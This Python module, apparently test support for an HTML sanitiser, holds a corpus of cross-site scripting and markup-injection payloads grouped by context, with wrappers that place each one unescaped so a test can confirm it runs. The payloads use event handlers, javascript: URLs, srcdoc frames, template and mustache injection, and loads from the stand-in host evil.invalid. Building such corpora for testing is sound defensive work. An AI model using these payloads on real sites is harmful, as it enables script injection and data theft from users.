"""Texts that try to run as script, to load something from elsewhere, or to break out of the markup around them.

Each one sets ``window.__pwned`` or asks ``evil.invalid`` for something when it is put, unescaped, where its group says;
``WRAPPED`` builds that place, and a test makes sure that every one of them works there.
"""

import html
import json
from collections.abc import Callable

from markdown_it import MarkdownIt

PWN = "window.__pwned=1"
EVIL = "http://evil.invalid"

CONTENT = (
    f"<script>{PWN}</script>",
    f"</script><script>{PWN}</script>",
    f"</textarea></title></style></script><svg onload={PWN}>",
    f"<ScRiPt >{PWN}</sCrIpT >",
    f"<script src={EVIL}/script.js></script>",
    f'<img src=x onerror="{PWN}">',
    f"<img src='x' onerror='{PWN}'>",
    f"<img/src='x'/onerror={PWN}>",
    f"<IMG SRC=x OnErRoR={PWN}//",
    f"<img src={EVIL}/picture.png>",
    f"<img srcset='{EVIL}/set.png 2x'>",
    f"<svg/onload={PWN}>",
    f"<svg><script>{PWN}</script></svg>",
    f"<svg><animate onbegin={PWN} attributeName=x dur=1s>",
    f"<svg><image href={EVIL}/svg.png></svg>",
    f"<svg><use href=#a /><style><img src=x onerror={PWN}></style></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror={PWN}&gt;' src=x onerror={PWN}>",
    f"<body onload={PWN}>",
    f"<details open ontoggle={PWN}><summary>more</summary></details>",
    f"<video><source onerror={PWN} src=x></video>",
    f"<video poster={EVIL}/poster.png></video>",
    f"<audio src={EVIL}/sound.mp3 autoplay></audio>",
    f"<input autofocus onfocus={PWN}>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    f"<iframe src=javascript:parent.{PWN[7:]}></iframe>",
    f"<iframe src={EVIL}/frame></iframe>",
    f"<object data={EVIL}/object></object>",
    f"<embed src={EVIL}/embed>",
    f"<base href={EVIL}/><img src=relative.png>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    "<link rel=stylesheet href=//evil.invalid/sheet.css>",
    f"<style>@import url({EVIL}/import.css);</style>",
    f"<style>*{{background:url({EVIL}/background.png)}}</style>",
    f"<p style=\"background:url('{EVIL}/inline.png')\">x</p>",
    f"<a href=javascript:{PWN}>press</a>",
    f"<a href='java\tscript:{PWN}'>press</a>",
    f"<a href='javascript:{PWN}' ping={EVIL}/ping>press</a>",
    f'<iframe src="data:text/html,<img src={EVIL}/data.png>"></iframe>',
    f"<form action=javascript:{PWN}><button>press</button></form>",
    f"<button form=f formaction={EVIL}/form>press</button><form id=f></form>",
    f"<!--><img src=x onerror={PWN}>-->",
    f"<![CDATA[><img src=x onerror={PWN}>]]>",
    f"\u2028\u2029\ufeff<img src=x onerror={PWN}>",
    f"\u202eتطبيق\u202c <img src=x onerror={PWN}> \u2067مرحبا\u2069",
    f"nul \x00 <img src=x onerror={PWN}>\x00",
    "so long " * 900 + f"<img src=x onerror={PWN}>",
)
DOUBLE_QUOTED = (
    f'" autofocus onfocus="{PWN}',
    f'"><img src=x onerror={PWN}>',
    "\"><iframe srcdoc='<script>parent.__pwned=1</script>'>",
    f"\" style='background:url({EVIL}/quoted.png)' \"",
)
SINGLE_QUOTED = (f"' autofocus onfocus='{PWN}", f"'><svg onload={PWN}>")
UNQUOTED = (f"x onerror={PWN} src=x", f"x\tonerror={PWN}")
STYLED = (f"50%;background:url({EVIL}/style.png)", f"1px}}*{{background:url({EVIL}/rule.png)}}")
PRESSED = (f"javascript:{PWN}", f"JaVaScRiPt:{PWN}//", f"  javascript://%0a{PWN}", f"{EVIL}/leave")
TEMPLATES = (
    f"${{{PWN}}}",
    f"`+({PWN})+`",
    "${alert(window.__pwned=1)}",
    f"\\frac{{a}}{{b}} \\u0041 ${{{PWN}}}",
)
MUSTACHES = (
    f"{{{{7*7}}}}{{{{{PWN}}}}}",
    "{{constructor.constructor('window.__pwned=1')()}}",
    f"{{{{#if 1}}}}{{{{{PWN}}}}}{{{{/if}}}}",
)
STRINGS = (f'";{PWN};//', f"</script><img src=x onerror={PWN}>")
ENTITIES = (
    f"&lt;img src=x onerror={PWN}&gt;",
    f"&#60;svg onload={PWN}&#62;",
    f"&amp;lt;script&amp;gt;{PWN}&amp;lt;/script&amp;gt;",
)
MARKDOWN = (f"![x]({EVIL}/markdown.png)", f"[press]({EVIL}/markdown)", f"<img src='x' onerror='{PWN}'>\n\n**bold**")
PLOTLY = (
    f"<a href='javascript:{PWN}'>press</a>",
    f'<b><a href="{EVIL}/plotly">press</a></b><br>',
    f"%{{y}}<extra><a href={EVIL}/extra>x</a></extra>",
)


def _unescaped(text: str) -> str:
    return html.unescape(html.unescape(text))


def _rendered(text: str) -> str:
    return MarkdownIt("commonmark").render(text)


def _template(text: str) -> str:
    """A page that makes a JavaScript template of the text, as Gradio's HTML component does with its own."""
    return f"<script>new Function({_js('return `' + text + '`')})()</script>"


def _mustache(text: str) -> str:
    """A page that evaluates what stands between double braces, as Angular and its kin do."""
    find = r"text.matchAll(/\{\{([^#\/][^]*?)\}\}/g)"
    run = f"const text = {_js(text)}; const constructor = Object; for (const [, code] of {find}) eval(code)"
    return f"<script>{run}</script>"


def _js(text: str) -> str:
    return json.dumps(text).replace("<", "\\u003c")


WRAPPED: dict[tuple[str, ...], Callable[[str], str]] = {
    CONTENT: lambda text: f"{text}\n<p>x</p>",
    DOUBLE_QUOTED: lambda text: f'<input value="{text}">',
    SINGLE_QUOTED: lambda text: f"<input value='{text}'>",
    UNQUOTED: lambda text: f"<img src=x alt={text}>",
    STYLED: lambda text: f"<style>p{{width:{text}}}</style><p style='height:{text}'>x</p>",
    PRESSED: lambda text: f'<a href="{text}">press</a>',
    TEMPLATES: _template,
    MUSTACHES: _mustache,
    STRINGS: lambda text: f'<script>const text = "{text}";</script>',
    ENTITIES: _unescaped,
    MARKDOWN: _rendered,
    PLOTLY: str,
}
CORPUS = tuple(dict.fromkeys(text for group in WRAPPED for text in group))
